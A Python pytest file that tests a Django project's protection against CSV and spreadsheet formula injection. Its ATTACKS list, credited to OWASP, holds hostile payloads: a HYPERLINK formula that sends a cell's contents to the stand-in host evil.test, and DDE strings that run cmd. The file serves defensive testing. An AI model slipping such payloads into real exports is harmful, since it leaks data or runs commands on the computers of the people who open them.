import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import polars as pl
import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from ungkultur.lib import spreadsheet

# What a respondent may type to make a spreadsheet run something (OWASP's list).
ATTACKS = [
    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_start_a_formula_gets_a_quote_and_stays_readable(text):
    assert spreadsheet.inert(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-1.25"), 0, None, True, datetime.date(2026, 1, 1), "", "Hei"]
)
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert spreadsheet.inert(value) == value
    assert type(spreadsheet.inert(value)) is type(value)


def test_a_lazy_translation_is_text_too():
    assert spreadsheet.inert(gettext_lazy("=1+1")) == "'=1+1"


def test_a_formula_sign_inside_the_text_is_harmless():
    assert spreadsheet.inert("Jeg vil ha 2+2=4") == "Jeg vil ha 2+2=4"


def test_a_code_that_is_a_number_stays_a_number():
    assert spreadsheet.inert_code("-1") == -1
    assert spreadsheet.inert_code("2") == "2"
    assert spreadsheet.inert_code("-1.5") == "'-1.5"
    assert spreadsheet.inert_code("-1\n") == "'-1\n"
    assert spreadsheet.inert_code("-1+cmd") == "'-1+cmd"
    assert spreadsheet.inert_code("=a") == "'=a"


def _written(values) -> str:
    out = io.StringIO()
    spreadsheet.csv_writer(out).writerow(values)
    return out.getvalue()


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_writer_makes_every_text_cell_inert(text):
    (row,) = csv.reader(io.StringIO(_written([text, -3, 2.5, None])))
    assert row == ["'" + text, "-3", "2.5", ""]


def test_csv_writer_quotes_text_so_a_semicolon_starts_no_cell():
    # Excel in Norway splits a .csv on ";": unquoted, this would be a second cell "=1+1".
    line = _written(["Hei;=1+1", -3])
    assert line.startswith('"Hei;=1+1",-3')
    for cell in next(csv.reader(io.StringIO(line), delimiter=";")):
        assert not cell.startswith(spreadsheet.TRIGGERS)


def test_csv_dict_writer_makes_every_text_cell_inert():
    out = io.StringIO()
    writer = spreadsheet.csv_dict_writer(out, ["text", "number"])
    writer.writeheader()
    writer.writerows([{"text": "@SUM(1)", "number": -3}])
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [
        {"text": "'@SUM(1)", "number": "-3"}
    ]


def _frame():
    return pl.DataFrame(
        {
            "text": [*ATTACKS, "Hei", None],
            "code": ["-1", "=a", "2", "-1+1", "x", "@b", "y", None],
            "choice": pl.Series(["=c", "d"] * 4, dtype=pl.Categorical),
            "number": [-3, -2, -1, 0, 1, 2, 3, None],
        }
    )


@pytest.mark.parametrize("lazy", [False, True])
def test_frames_have_every_text_column_made_inert(lazy):
    frame = _frame()
    result = spreadsheet.inert_text(frame.lazy() if lazy else frame, codes=["code"])
    if lazy:
        result = result.collect()
    assert result.get_column("text").to_list() == [*("'" + t for t in ATTACKS), "Hei", None]
    assert result.get_column("code").to_list() == ["-1", "'=a", "2", "'-1+1", "x", "'@b", "y", None]
    assert result.get_column("choice").to_list() == ["'=c", "d"] * 4
    assert result.get_column("number").to_list() == [-3, -2, -1, 0, 1, 2, 3, None]
    assert result.schema["number"] == pl.Int64


def test_a_frame_written_as_csv_is_quoted_and_keeps_numbers():
    text = spreadsheet.inert_text(_frame()).write_csv(quote_style=spreadsheet.QUOTE_STYLE)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + ATTACKS[0]
    assert text.splitlines()[2].endswith(",-2")  # a number is written unquoted


def test_workbook_keeps_formula_text_as_a_string():
    book = Workbook()
    book.active.append([*ATTACKS, -3, 2.5])
    data = io.BytesIO()
    spreadsheet.inert_workbook(book).save(data)
    cells = list(load_workbook(io.BytesIO(data.getvalue())).active.iter_rows())[0]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS) + ["n", "n"]
    # Exactly as typed (XML stores a carriage return as a line feed).
    assert [c.value for c in cells[:5]] == ATTACKS[:5]
    assert [c.value for c in cells[6:]] == [-3, 2.5]


# Writers of CSV or XLSX. A module that has one must route its cells through this module.
WRITER = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\.write_csv\(|\.sink_csv\(|Workbook\(|write_excel|xlsxwriter"
)
# CSV that no person opens: rows streamed into PostgreSQL's COPY.
NOT_FOR_PEOPLE = {"indicators/bulk.py"}


def test_every_csv_and_xlsx_writer_goes_through_this_module():
    root = Path(spreadsheet.__file__).resolve().parents[1]
    writers = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts and WRITER.search(path.read_text())
    }
    writers -= {"lib/spreadsheet.py", *NOT_FOR_PEOPLE}
    assert writers  # the exports below are found at all
    unguarded = {w for w in writers if "spreadsheet." not in (root / w).read_text()}
    assert unguarded == set()
